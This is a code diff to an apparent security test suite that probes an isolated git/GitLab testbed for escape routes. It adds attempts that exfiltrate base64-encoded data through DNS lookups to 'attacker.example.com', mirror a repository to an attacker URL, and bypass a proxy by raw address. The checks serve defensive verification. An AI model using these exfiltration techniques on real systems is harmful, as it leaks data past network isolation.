@@ -2,9 +2,13 @@
 import { join } from "node:path";
 import type { ClaimId } from "../../isolation/claims";
 import type { Credential, Position } from "../git/gitClient";
-import { Blocked } from "./sourceNetwork";
+import { anywhere } from "./addresses";
+import { Blocked } from "./blocked";
 import type { Testbed } from "./testbed";
 import { alarmNames } from "./firedAlarm";
+
+/** Somebody's host on the Internet. */
+const attacker = "attacker.example.com";
 
 /** What became of an attempt. */
 export interface Escape {
@@ -161,7 +165,7 @@ function fromIsolatedTerminal(testbed: Testbed, loot: string): Attempt[] {
       claim: "C6",
       run: () =>
         refusedBy(isolatedTerminal, () => {
-          isolatedZone.lookUp("cGVyc29uYWwgZGF0YQ.attacker.example.com");
+          isolatedZone.lookUp(`cGVyc29uYWwgZGF0YQ.${attacker}`);
           isolatedZone.leave();
         }),
       knownGap: ownNetworkGap,
@@ -199,7 +203,7 @@ function withCredentials(testbed: Testbed, loot: string): Attempt[] {
 }
 
 function fromSource(testbed: Testbed, loot: string): Attempt[] {
-  const { outside, gitlabHost, airlock, pushCredential } = testbed;
+  const { outside, gitlabHost, sourceNetwork, airlock, pushCredential } = testbed;
   const noProxyGap = testbed.proxy
     ? undefined
     : "C7 is refuted without a proxy: nothing limits where GitLab goes. Set git-airlock:proxy's mode to managed.";
@@ -221,13 +225,23 @@ function fromSource(testbed: Testbed, loot: string): Attempt[] {
     {
       attempt: "GitLab mirrors to another host, as a hostile maintainer would have it",
       claim: "C7",
-      run: () => mirrorElsewhere(testbed, "https://attacker.example.com/loot.git"),
+      run: () => mirrorElsewhere(testbed, `https://${attacker}/loot.git`),
       knownGap: noProxyGap,
     },
     {
       attempt: "GitLab goes around the proxy",
       claim: "C7",
-      run: pull(gitlabHost, "https://attacker.example.com/loot.git", pushCredential),
+      // By address, so that no resolver has a say.
+      run: pull(gitlabHost, `https://${anywhere}/loot.git`, pushCredential),
+      knownGap: noProxyGap,
+    },
+    {
+      attempt: "GitLab's host carries data out in a DNS name",
+      claim: "C7",
+      run: () =>
+        refusedBy(gitlabHost, () => {
+          sourceNetwork.lookUp(`c291cmNlIGNvZGU.${attacker}`);
+        }),
       knownGap: noProxyGap,
     },
   ];
